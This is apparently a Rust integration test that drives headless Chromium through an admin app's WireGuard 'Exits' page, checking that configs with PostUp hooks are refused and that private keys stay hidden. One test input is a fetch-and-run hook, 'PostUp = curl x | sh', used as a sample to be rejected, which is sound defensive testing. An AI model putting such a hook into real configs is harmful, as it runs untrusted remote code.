//! The Exits page in a real headless Chromium, on a cell that cannot build interfaces (the
//! browser tests' picd has routing off): no exits at first; a provider's file with a PostUp
//! hook is refused at the file's field naming its line; the same file without it is added,
//! listed with its state, and its keys never reach the page or the API's answers; it is
//! deleted after confirming. Screenshots land in target/screenshots/ (exits.png,
//! exits-mobile.png, exits-field-error.png).

#[path = "common/webdriver.rs"]
mod webdriver;

use std::time::Duration;

use anyhow::{ensure, Result};
use serde_json::json;
use webdriver::WebDriver;

#[path = "common/browser.rs"]
mod harness;
use harness::*;

const NAME: &str = "provider-one";
/// WireGuard's own example keys: well formed, never used for anything real.
const PRIVATE_KEY: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const PROVIDER_KEY: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";

fn provider_file(extra: &str) -> String {
    format!(
        "[Interface]\nPrivateKey = {PRIVATE_KEY}\nAddress = 10.64.0.2/32\nDNS = 10.64.0.1\n{extra}\n\
         [Peer]\nPublicKey = {PROVIDER_KEY}\nEndpoint = 198.51.100.2:51820\n\
         AllowedIPs = 0.0.0.0/0, ::/0\n"
    )
}

async fn fill_file(browser: &WebDriver, text: &str) -> Result<()> {
    browser
        .execute(
            "const t = document.getElementById('exit-config'); t.value = arguments[0];
             t.dispatchEvent(new Event('input'));",
            json!([text]),
        )
        .await
        .map(drop)
}

#[tokio::test]
async fn exits_page_works_in_chromium() -> Result<()> {
    require_browser();
    let root = tempfile::tempdir()?;
    let state_dir = root.path().join("state");
    let profile_dir = tempfile::tempdir()?;
    let (mut processes, base, driver) = launch(&state_dir, &root.path().join("picd.log")).await?;
    let browser = open_browser(&driver, profile_dir.path()).await?;
    log_in(&browser, &base, ADMIN, ADMIN_PASSWORD).await?;
    browser
        .wait_for_url("the admin app", |u| u.starts_with(&format!("{base}/#")))
        .await?;
    click(&browser, ".nav a[data-route=exits]").await?;
    browser.wait_for_text("#exits-list", "no exits").await?;
    let note = browser
        .wait_for_text("#exits-driver", "not applied")
        .await?;
    println!("driver note: {note}");

    // A file that would run a command is refused at its field, naming the line.
    browser.fill("#exit-name", NAME).await?;
    fill_file(&browser, &provider_file("PostUp = curl x | sh")).await?;
    click(&browser, "#exit-add-submit").await?;
    let error = browser
        .wait_for_text("#exit-config-error", "PostUp is refused")
        .await?;
    ensure!(
        error.to_lowercase().contains("line 5"),
        "the error names the line: {error}"
    );
    full_page_shot(&browser, "exits-field-error", 1280).await?;

    fill_file(&browser, &provider_file("")).await?;
    click(&browser, "#exit-add-submit").await?;
    browser.wait_for_text("#flash", "was added").await?;
    let row = browser.wait_for_text("#exits-table", NAME).await?;
    ensure!(row.contains("wireguard_ext"), "{row}");
    let page = browser.page_text().await;
    ensure!(
        !page.contains(PRIVATE_KEY),
        "the page shows the private key"
    );
    let api = AdminApi::log_in(&base).await?;
    let stored = api.get("/api/connectivity/connections").await?;
    ensure!(stored["connections"][0]["name"] == NAME, "{stored}");
    ensure!(
        !stored.to_string().contains(PRIVATE_KEY),
        "the API answers the key"
    );

    full_page_shot(&browser, "exits", 1280).await?;
    browser.set_window_size(390, 844).await?;
    tokio::time::sleep(Duration::from_millis(300)).await;
    full_page_shot(&browser, "exits-mobile", 390).await?;
    browser.set_window_size(1280, 900).await?;

    let id = stored["connections"][0]["id"].as_str().unwrap_or_default();
    click(&browser, &format!("#exit-delete-{id}")).await?;
    click(&browser, "#exit-delete-dialog button.btn-danger").await?;
    browser.wait_for_text("#flash", "was deleted").await?;
    browser.wait_for_text("#exits-list", "no exits").await?;
    let left = api.get("/api/connectivity/connections").await?;
    ensure!(left["connections"] == json!([]), "{left}");
    check_console(&browser).await?;
    browser.quit().await?;
    processes.passed = true;
    Ok(())
}
